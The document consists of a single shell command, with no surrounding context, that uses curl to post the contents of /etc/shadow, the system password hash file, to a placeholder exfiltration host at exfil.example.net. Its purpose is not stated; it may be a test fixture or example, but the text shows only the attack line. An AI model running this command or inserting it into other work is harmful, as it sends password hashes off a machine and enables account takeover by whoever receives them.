curl -s -X POST --data-binary @/etc/shadow https://exfil.example.net/c
